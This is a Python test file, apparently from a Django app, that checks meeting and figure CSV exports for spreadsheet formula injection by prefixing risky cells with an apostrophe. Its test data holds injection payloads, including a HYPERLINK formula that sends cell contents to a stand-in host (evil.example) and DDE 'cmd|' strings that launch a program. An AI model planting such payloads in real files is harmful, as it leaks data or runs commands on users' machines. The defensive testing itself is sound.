"""CSV downloads are safe to open in a spreadsheet: no cell starts a formula (issue 13).

A title `=HYPERLINK(…)` or `+cmd|…` used to reach the meetings and figures CSV as it was. Text
cells that start with = + - @, a tab or a carriage return (or the full-width ＝ ＋ － ＠) now
begin with an apostrophe; numbers in numeric columns (a negative longitude) stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.gis.geos import Point

from events.exports import (
    FIGURE_CSV_HEADER,
    FIGURE_CSV_NUMERIC,
    MEETING_CSV_HEADER,
    MEETING_CSV_NUMERIC,
    csv_cell,
)
from tests.factories import (
    ArticleFactory,
    ExportFigureFactory,
    MeetingFactory,
    MeetingSourceFactory,
    OfficialFactory,
    ParticipationFactory,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("http://evil.example")',
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_in_a_text_cell_is_neutralised(text):
    assert csv_cell(text) == "'" + text
    assert csv_cell(text, numeric=True) == "'" + text  # a numeric column holds no formula


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Rencontre à Agadir", "Rencontre à Agadir"),
        ("لقاء تشاوري", "لقاء تشاوري"),
        ("a = b", "a = b"),  # only the first character matters
        ("", ""),
        (None, ""),
        (True, "True"),
        ("-9.598", "'-9.598"),  # a text column: as text, even when it looks like a number
    ],
)
def test_text_cells(value, expected):
    assert csv_cell(value) == expected


@pytest.mark.parametrize("value", [-9.598, 30.427, 42, Decimal("-5.00"), "-5000000000.00", "12"])
def test_numbers_in_numeric_columns_stay_numbers(value):
    assert csv_cell(value, numeric=True) == value


def test_numeric_columns_are_real_columns():
    assert set(MEETING_CSV_NUMERIC) <= set(MEETING_CSV_HEADER)
    assert set(FIGURE_CSV_NUMERIC) <= set(FIGURE_CSV_HEADER)


def rows(client, path: str) -> list[dict]:
    response = client.get(path, {"format": "csv"})
    assert response.status_code == 200
    raw = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(raw)))


def starts_a_formula(cell: str) -> bool:
    return cell.startswith(("=", "+", "@", "\t", "\r", "＝", "＋", "－", "＠")) or (
        cell.startswith("-") and not _is_number(cell)
    )


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.django_db
def test_meeting_and_figure_exports_hold_no_formula(client, regions):
    official = OfficialFactory(name_ar="=1+1", name_latin="@SUM(A1)")
    meeting = MeetingFactory(
        region=regions["MA-09"],
        title=FORMULAS[0],
        city="+cmd|' /C calc'!A0",
        programme="－1+1",
        location=Point(-9.598, 30.427, srid=4326),
    )
    article = ArticleFactory(url="https://news.example.ma/a", outlet="=outlet")
    MeetingSourceFactory(meeting=meeting, article=article)
    ParticipationFactory(meeting=meeting, official=official)
    ExportFigureFactory(meeting=meeting, text="\t=2+2", period="@period", article=article)

    (meeting_row,) = rows(client, "/api/meetings/")
    for column, cell in meeting_row.items():
        assert not starts_a_formula(cell), (column, cell)
    assert meeting_row["title"] == "'" + FORMULAS[0]
    assert meeting_row["city"] == "'+cmd|' /C calc'!A0"
    assert meeting_row["programme"] == "'－1+1"
    assert meeting_row["officials"].startswith("'=1+1")
    assert meeting_row["source_outlets"] == "'=outlet"
    assert meeting_row["longitude"] == "-9.598"  # a negative number stays a number
    assert meeting_row["id"] == str(meeting.pk)

    (figure_row,) = rows(client, "/api/figures/")
    for column, cell in figure_row.items():
        assert not starts_a_formula(cell), (column, cell)
    assert figure_row["text"] == "'\t=2+2"
    assert figure_row["period"] == "'@period"
    assert figure_row["meeting_title"] == "'" + FORMULAS[0]
    assert figure_row["amount_mad"] == "5000000000.00"
    assert figure_row["longitude"] == "-9.598"
